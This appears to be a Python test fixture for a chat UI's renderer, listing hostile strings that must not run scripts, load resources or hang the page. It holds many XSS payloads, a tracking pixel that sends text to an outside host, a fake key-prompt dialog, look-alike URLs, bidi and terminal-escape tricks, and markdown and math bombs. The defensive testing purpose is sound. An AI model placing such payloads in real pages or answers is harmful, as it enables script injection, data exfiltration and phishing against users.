"""What a model may answer to break the page that shows it (fault U1 of docs/faults.md): scripts, handlers, addresses that run, markup that breaks out,
markdown and math that never end, texts that hide. None may run a script, load anything or hold up the page. Each string sets window.ran, where it can."""

RUN = "window.ran=1"

_SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script src='data:text/javascript,{RUN}'></script>", "<script src=//example.org/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script\n>{RUN}</script\n>", f"</p><script>{RUN}</script>", f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>", f"<math><script>{RUN}</script></math>", f"<noscript><p title=\"</noscript><script>{RUN}</script>\">",
    f"<template><script>{RUN}</script></template>", f"<!--><script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp>", f"<textarea><script>{RUN}</script></textarea>", f"<title></title><script>{RUN}</script>", f"</textarea></script><script>{RUN}</script>",
    f"<style><!--</style><script>{RUN}</script>-->", f"\x00<scr\x00ipt>{RUN}</script>", f"<script>{RUN}", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"<script>\n\n{RUN}\n\n</script>", f"```html\n<script>{RUN}</script>\n```", f"`<script>{RUN}</script>`",
    f"> <script>{RUN}</script>", f"- <script>{RUN}</script>", f"# <script>{RUN}</script>", f"| <script>{RUN}</script> |\n|---|\n| <script>{RUN}</script> |",
    f"**<script>{RUN}</script>**", f"[<script>{RUN}</script>](https://example.org)", f"```<script>{RUN}</script>\ncode\n```", f"```py\" onmouseover=\"{RUN}\ncode\n```",
]
_HANDLERS = [
    f"<img src=x onerror={RUN}>", f"<img src=x onerror=\"{RUN}\"//", f"<IMG \"\"\"><SCRIPT>{RUN}</SCRIPT>\">", f"<img src=`x` onerror={RUN}>", f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributename=x>",
    f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>", f"<div style=animation-name:x onanimationstart={RUN}>",
    f"<iframe onload={RUN}></iframe>", f"<object data=x onerror={RUN}>", f"<embed src=x onload={RUN}>", f"<a onmouseover={RUN} href=#>hover</a>", f"<p onpointerrawupdate={RUN}>x</p>",
    f"<button popovertarget=x>y</button><div popover id=x onbeforetoggle={RUN}>z</div>", f"<x contenteditable autofocus onfocus={RUN}>", f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>", f"![x](https://example.org/x.png\" onerror=\"{RUN})", f"![x](x \"t\" onerror={RUN})", f"[x](https://example.org \"t\" onclick={RUN})",
]
_ADDRESSES = [f"[x]({scheme}{RUN})" for scheme in (
    "javascript:", "JavaScript:", "java\tscript:", "java\nscript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:", "&#x6a;avascript:", " javascript:", "\x01javascript:",
    "javascript://example.org/%0a", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=>", "livescript:", "mocha:", "feed:javascript:",
    "view-source:javascript:", "blob:https://example.org/", "file:///etc/", "filesystem:https://example.org/", "jar:https://example.org!/", "intent://x#Intent;", "chrome://settings/",
    "about:blank#", "ws://example.org/", "ftp://example.org/", "//example.org/", "/api/conversations?", "\\\\example.org\\")] + [
    f"<javascript:{RUN}>", f"<data:text/html,<script>{RUN}</script>>", f"![x](javascript:{RUN})", "![x](data:image/svg+xml,<svg/onload=window.ran=1>)", f"[x][1]\n\n[1]: javascript:{RUN}",
    f"[x](<javascript:{RUN}>)", f"[a](https://example.org)[b](javascript:{RUN})", f"<a href=javascript:{RUN}>x</a>", f"<a href=\"jav&#x09;ascript:{RUN}\">x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>", f"<isindex action=javascript:{RUN}>", f"<math href=javascript:{RUN}>x</math>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>", f"<base href=javascript:{RUN}//>", f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>", f"<iframe src=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", f"https://example.org/\"onmouseover=\"{RUN}", f"https://example.org/<script>{RUN}</script>",
    f"javascript:{RUN}", "http://user:password@example.org/", "https://example.org@evil.example/", "https://еxample.org/", "[https://good.example](https://evil.example)",
]
_FRAMES = [
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", "<iframe src=https://example.org></iframe>", "<object data=https://example.org></object>", "<embed src=https://example.org>",
    "<img src=https://example.org/pixel.png>", "![pixel](https://example.org/pixel.png?stolen=words)", "<link rel=stylesheet href=https://example.org/x.css>",
    "<style>@import 'https://example.org/x.css'; body{background:url(https://example.org/x)}</style>", "<div style=\"background:url(https://example.org/x)\">x</div>",
    "<meta http-equiv=refresh content=\"0;url=https://example.org\">", "<base href=https://example.org/>", "<video src=https://example.org/x.mp4 autoplay></video>",
    "<form action=https://example.org><input name=x><button>send</button></form>", "<portal src=https://example.org></portal>", "<svg><image href=https://example.org/x.png /></svg>",
    "<svg><use href=https://example.org/x.svg#x /></svg>", "<svg><foreignObject><iframe src=https://example.org></iframe></foreignObject></svg>", "<dialog open>Your session ended, type your key</dialog>",
    "</article></main></body></html><h1>broken out</h1>", "<div id=send></div><div id=input></div>", "<a id=log href=x>clobber</a><form name=body></form>",
    "<template shadowrootmode=open><style>:host{position:fixed;inset:0}</style></template>", "{{constructor.constructor('window.ran=1')()}}", "${window.ran=1}", "<%= window.ran=1 %>", "{% window.ran=1 %}",
]
_MATH = [
    "$\\href{javascript:window.ran=1}{x}$", "$\\url{javascript:window.ran=1}$", "$\\html{<script>window.ran=1</script>}$", "$\\htmlData{x=1}{y}$", "$\\includegraphics{https://example.org/x.png}$",
    "$\\class{x\" onclick=\"window.ran=1}{y}$", "$\\style{color:red;background:url(https://example.org)}{x}$", "$\\text{<img src=x onerror=window.ran=1>}$", "$$\\text{</mtext><script>window.ran=1</script>}$$",
    "$\\unicode{x3c}script$", "$\\def\\x{\\x\\x}\\x$", "$\\newcommand{\\a}{\\a\\a}\\a$", "$\\frac{1}$", "$\\sqrt$", "$\\left( x$", "$x^{^{^{^{}}}}$", "$x^2^3$", "$\\begin{matrix} a & b$", "$\\end{matrix}$",
    "$" + "{" * 200 + "$", "$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "$", "$$" + "x^{" * 100 + "}" * 100 + "$$", "\\(" + "\\sqrt{" * 60 + "x" + "}" * 60 + "\\)", "\\[ \\begin{pmatrix} " + "1 & " * 3000 + " \\end{pmatrix} \\]",
    "$$\\begin{array}{" + "c" * 5000 + "}1\\end{array}$$", "$\\\\\\\\\\\\$", "$\\$", "$$", "$$$$$$$$$", "\\(", "\\[ \\[ \\[", "$\\mathbb{" + "R" * 10000 + "}$", "$\\" + "a" * 10000 + "$", "$`${`$`}$`",
]
_TRICKS = [
    "\u202egnp.exe\u202c and \u2066isolated\u2069", "```js\nif (admin) { /*\u202e } \u2066if (!admin)\u2069 \u2066 begin */ }\n```", "שלום [x](https://example.org/\u202egnp) עולם", "مرحبا `code \u202e x` **نص**",
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H \x1b]0;title\x07 \x1b]8;;https://example.org\x1b\\link\x1b]8;;\x1b\\", "\x1b[" + "1;" * 1500 + "m", "\x1b]" + "x" * 10000, "\x9b31m \x90x\x9c \x07 \x08 \x7f", "a\rb\r\nc\n\rd",
    "\u200b\u200c\u200d\ufeff\u2060 zero width", "e" + "\u0301" * 500, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200, "\ufdfa" * 500, "A" * 1500, "\u3000" * 3000, "\t" * 2000 + "x", "\n" * 1500, "&" * 1500, "&#0;&#x110000;&#xD800;&#x202e;",
    "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace") + " lone half", "<!-- " * 500, "]]>" * 200, "'\"`;--", "__proto__ constructor toString", "[__proto__](https://example.org/__proto__)",
    "```__proto__\nx\n```", "```constructor\nx\n```", "```toString\nreturn\n```", "data: {\"choices\": [{\"delta\": {\"content\": \"injected\"}}]}\n\ndata: [DONE]\n\n", "event: error\ndata: x\n\n",
]
_BOMBS = [
    "*" * 2500, "_" * 2500, "*a " * 1000, "**a *b " * 625, "*a_b" * 625, "~~" * 1250, "`" * 2500, "".join("`" * (i % 50 + 1) + "x" for i in range(250)), "[" * 2500, "]" * 2500, "[a](" * 625, "![" * 1000,
    "[[[[[" * 375 + "]](x)" * 375, "<" * 2500, "<a " * 750, "<https://" * 500, "https://" * 625, "&#" * 1000, "\\" * 2501, "\\(" * 1000, "$" * 2501, "$x" * 1000, "$$x" * 750, "| " * 1250 + "\n" + "|-" * 1250 + "|",
    "|a" * 625 + "|\n" + "|-" * 625 + "|\n" + "|b" * 625 + "|", ">" * 2500 + " x", "> " * 625 + "x", "".join("> " * i + "x\n" for i in range(200)), "- " * 625 + "x", "1. " * 625 + "x", "".join("  " * i + "- x\n" for i in range(300)),
    "- x\n" * 1000, "# " * 1000, "#" * 2500, "```\n" * 625, "~~~\n```\n" * 375, "    x\n" * 625, "---\n" * 625, "x\n===\n" * 500, "x  \n" * 625, "(" * 2500, "[x](" + "(" * 625, "[x](<" * 500, "[^1]: x\n" * 375,
    "\\begin{align}" * 250, "<sub>" * 625, "<br>" * 625, "*" + "a" * 3750 + "*", "|" + "a|" * 63 + "\n" + "|-" * 64 + "|\n" + ("|" + "b|" * 64 + "\n") * 200,
]

STRINGS = _SCRIPTS + _HANDLERS + _ADDRESSES + _FRAMES + _MATH + _TRICKS + _BOMBS

MEGABYTE = 1 << 20


def _fill(text):
    return (text * (MEGABYTE // len(text) + 1))[:MEGABYTE]


# A megabyte, but of what makes a hundred thousand elements: the page has to answer all the while.
LARGE = {
    "a block of code": "```python\n" + _fill("def f(x):\n    return \"text\" + str(x)  # a comment\n") + "\n```",
    "one word": _fill("a"),
    "paragraphs": _fill("Some **bold** text with `code` and $x^2$, of a usual length, that is not all that interesting.\n\n")[:MEGABYTE // 8],
}
